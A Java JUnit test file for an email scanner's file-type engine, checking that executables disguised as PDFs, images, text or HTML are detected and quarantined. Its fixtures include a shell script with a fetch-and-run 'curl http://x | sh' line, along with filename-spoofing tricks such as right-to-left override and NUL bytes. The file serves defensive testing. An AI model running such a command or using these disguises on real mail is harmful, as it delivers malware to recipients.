package io.portcullis.scanner.engine;

import static io.portcullis.scanner.support.TestMessages.ascii;
import static io.portcullis.scanner.support.TestMessages.crlf;
import static io.portcullis.scanner.support.TestMessages.base64;
import static io.portcullis.scanner.support.TestMessages.withAttachment;
import static io.portcullis.scanner.support.TestMessages.zip;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.portcullis.contracts.events.Action;
import io.portcullis.contracts.policy.PolicySnapshot;
import io.portcullis.contracts.scan.Category;
import io.portcullis.contracts.scan.EngineResult;
import io.portcullis.contracts.scan.Finding;
import io.portcullis.contracts.scan.ScanEngine;
import io.portcullis.contracts.scan.ScanInput;
import io.portcullis.contracts.scan.ScanItem;
import io.portcullis.scanner.mime.Decomposition;
import io.portcullis.scanner.mime.DecompositionLimits;
import io.portcullis.scanner.mime.MessageDecomposer;
import io.portcullis.scanner.policy.DefaultPolicy;
import io.portcullis.scanner.policy.PolicyEvaluator;
import io.portcullis.scanner.support.Containers;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class FileTypeEngineTest {
    /** A PE header: "MZ", e_lfanew, "PE\0\0" (what Tika calls application/x-msdownload). */
    private static final byte[] PE = Containers.peWithOverlay(new byte[0]);
    private static final byte[] ELF = {0x7F, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0x3E, 0};
    private static final byte[] LNK = {0x4C, 0, 0, 0, 0x01, 0x14, 0x02, 0x00, 0, 0, 0, 0, (byte) 0xC0, 0, 0, 0, 0, 0,
        0, 0x46, 0, 0, 0, 0};

    private final MessageDecomposer decomposer = new MessageDecomposer(DecompositionLimits.DEFAULTS);
    private final FileTypeEngine engine = new FileTypeEngine(() -> DefaultPolicy.SNAPSHOT);

    private List<Finding> scan(byte[] msg) throws Exception {
        Decomposition d = decomposer.decompose(msg);
        return engine.scan(new ScanInput("t", null, d.items())).findings();
    }

    private static List<String> details(List<Finding> findings, String symbol) {
        return findings.stream().filter(f -> f.symbol().equals(symbol)).map(Finding::detail).toList();
    }

    @Test
    void executableRenamedToADocumentIsTrueTypeExecutableAndQuarantined() throws Exception {
        List<Finding> f = scan(withAttachment("invoice.pdf", PE));
        assertEquals(List.of("exe (application/x-msdownload) named .pdf in part/2"), details(f,
                FileTypeEngine.EXECUTABLE_SYMBOL));
        assertEquals(Category.BLOCKED_ATTACHMENT, f.get(0).category());
        assertEquals(Action.QUARANTINE, new PolicyEvaluator().evaluate(f, DefaultPolicy.SNAPSHOT).action());
    }

    @Test
    void executablesThatSayWhatTheyAreAreLeftToTheExtensionEngine() throws Exception {
        assertEquals(List.of(), scan(withAttachment("setup.exe", PE)));
        assertEquals(List.of(), scan(withAttachment("tool.scr", PE)), "scr is blocked by name already");
    }

    @Test
    void aPeNamedDllCountsAsBlockedWhenThePolicyBlocksExe() throws Exception {
        assertEquals(1, details(scan(withAttachment("helper.dll", PE)), FileTypeEngine.EXECUTABLE_SYMBOL).size());
        PolicySnapshot noExe = new PolicySnapshot("t", 1, List.of(), 5, List.of("js"), List.of());
        FileTypeEngine lenient = new FileTypeEngine(() -> noExe);
        Decomposition d = decomposer.decompose(withAttachment("helper.dll", PE));
        assertEquals(List.of(), lenient.scan(new ScanInput("t", null, d.items())).findings());
    }

    @Test
    void elfShortcutAndShellScriptHiddenInAZipAreFound() throws Exception {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put("photo.jpg", ELF);
        entries.put("readme.txt", LNK);
        entries.put("notes.txt", ascii("#!/bin/sh\ncurl http://x | sh\n"));
        entries.put("report.docx", zip("word/document.xml", ascii("<w:document/>")));
        List<String> found = details(scan(withAttachment("files.zip", zip(entries))), FileTypeEngine.EXECUTABLE_SYMBOL);
        assertEquals(3, found.size(), found.toString());
        assertTrue(found.get(0).startsWith("elf (application/x-executable) named .jpg"), found.get(0));
        assertTrue(found.get(1).startsWith("lnk ("), found.get(1));
        assertTrue(found.get(2).startsWith("sh (application/x-sh) named .txt in part/2/zip:notes.txt"), found.get(2));
    }

    @Test
    void jarNamedZipAndHtaNamedHtmlAreExecutable() throws Exception {
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("META-INF/MANIFEST.MF", ascii("Manifest-Version: 1.0\nMain-Class: A\n"));
        jar.put("A.class", new byte[] {(byte) 0xCA, (byte) 0xFE, (byte) 0xBA, (byte) 0xBE, 0, 0, 0, 52});
        List<Finding> f = scan(withAttachment("library.zip", zip(jar)));
        assertTrue(details(f, FileTypeEngine.EXECUTABLE_SYMBOL).get(0).startsWith("jar (application/zip) named .zip"),
                f.toString());
        List<Finding> hta = scan(withAttachment("page.html", ascii("<html><head><HTA:APPLICATION id=x>"
                + "</head><body>hi</body></html>")));
        assertTrue(details(hta, FileTypeEngine.EXECUTABLE_SYMBOL).get(0).startsWith("hta (text/html) named .html"),
                hta.toString());
    }

    @Test
    void otherMismatchesAreRecordedAsContentNotBlocked() throws Exception {
        byte[] pdf = Containers.pdf(Map.of(), false, null);
        List<Finding> f = scan(withAttachment("letter.doc", pdf));
        assertEquals(List.of("application/pdf named .doc in part/2"), details(f, FileTypeEngine.MISMATCH_SYMBOL));
        assertEquals(Category.CONTENT, f.get(0).category());
        assertEquals(Action.DELIVER, new PolicyEvaluator().evaluate(f, DefaultPolicy.SNAPSHOT).action());
        List<Finding> declared = scan(withAttachment("image/jpeg; name=\"scan\"", "attachment", pdf));
        assertEquals(List.of("application/pdf declared as image/jpeg in part/2"), details(declared,
                FileTypeEngine.MISMATCH_SYMBOL));
    }

    @Test
    void matchingTypesAndFamiliesAreNotMismatches() throws Exception {
        assertEquals(List.of(), scan(withAttachment("report.pdf", Containers.pdf(Map.of(), false, null))));
        assertEquals(List.of(), scan(withAttachment("report.docx", zip("word/document.xml", ascii("<x/>")))));
        assertEquals(List.of(), scan(withAttachment("data.csv", ascii("a,b\n1,2\n"))));
        assertEquals(List.of(), scan(withAttachment("letter.doc", Containers.ole2(Map.of("WordDocument",
                new byte[16])))));
        assertEquals(List.of(), scan(withAttachment("text/plain; name=\"notes.txt\"", null, ascii("hello"))));
    }

    @Test
    void rightToLeftOverrideInAFileNameIsFilenameSpoofed() throws Exception {
        // "invoice\u202Efdp.exe" displays as "invoiceexe.pdf"
        String name = "=?UTF-8?B?" + java.util.Base64.getEncoder().encodeToString("invoice\u202Efdp.exe".getBytes(
                java.nio.charset.StandardCharsets.UTF_8)) + "?=";
        List<Finding> f = scan(withAttachment("application/octet-stream; name=\"" + name + "\"", null, PE));
        assertEquals(List.of("U+202E in a file name in part/2"), details(f, FileTypeEngine.SPOOFED_SYMBOL));
        assertEquals(Category.BLOCKED_ATTACHMENT, f.get(0).category());
    }

    @Test
    void everyCandidateNameCountsNulContinuationsAndEncodedWordsIncluded() throws Exception {
        // filename*0/*1 (RFC 2231) says .pdf, name (RFC 2047) says .exe: the PE hides behind neither
        byte[] msg = crlf("From: <a@example.net>\nSubject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed; "
                + "boundary=b\n\n--b\nContent-Type: application/octet-stream; name=\"=?UTF-8?Q?setup=2Eexe?=\"\n"
                + "Content-Disposition: attachment; filename*0=\"inv\"; filename*1=\"oice.pdf\"\n"
                + "Content-Transfer-Encoding: base64\n\n" + base64(PE) + "\n--b--\n");
        Decomposition d = decomposer.decompose(msg);
        List<String> names = d.items().stream().filter(i -> i.path().equals("part/1")).map(ScanItem::filename)
                .toList();
        assertEquals(List.of("invoice.pdf", "setup.exe"), names);
        // the name says exe (blocked by BANNED_EXTENSION), so the true type adds nothing
        assertEquals(List.of(), engine.scan(new ScanInput("t", null, d.items())).findings());
        byte[] nul = crlf("From: <a@example.net>\nSubject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed; "
                + "boundary=b\n\n--b\nContent-Type: application/octet-stream\n"
                + "Content-Disposition: attachment; filename=\"run.exe\u0000.pdf\"\n"
                + "Content-Transfer-Encoding: base64\n\n" + base64(PE) + "\n--b--\n");
        List<String> nulNames = decomposer.decompose(nul).items().stream().filter(i -> i.path().equals("part/1"))
                .map(ScanItem::filename).toList();
        assertEquals(List.of("run.exe", "run.exe.pdf"), nulNames);
    }

    @Test
    void veryLongNamesKeepTheirExtension() throws Exception {
        String name = "a".repeat(5000) + ".pdf   .exe";
        Decomposition d = decomposer.decompose(withAttachment(name, PE));
        ScanItem part = d.items().stream().filter(i -> i.path().equals("part/2")).findFirst().orElseThrow();
        assertTrue(part.filename().length() <= 512 && part.filename().endsWith(".pdf   .exe"), part.filename());
    }

    @Test
    void anEngineFailureIsFiletypeFailNeverClean() {
        FileTypeEngine broken = new FileTypeEngine(() -> {
            throw new IllegalStateException("no policy");
        });
        EngineRunner runner = new EngineRunner(List.<ScanEngine>of(broken), Duration.ofSeconds(5), 1);
        try {
            List<EngineResult> results = runner.run(new ScanInput("t", null, new ArrayList<>(
                    decomposer.decompose(withAttachment("a.pdf", PE)).items())));
            assertEquals(EngineResult.Status.FAILED, results.get(0).status());
            assertEquals(FileTypeEngine.FAILURE_SYMBOL, results.get(0).findings().get(0).symbol());
        } finally {
            runner.close();
        }
    }
}
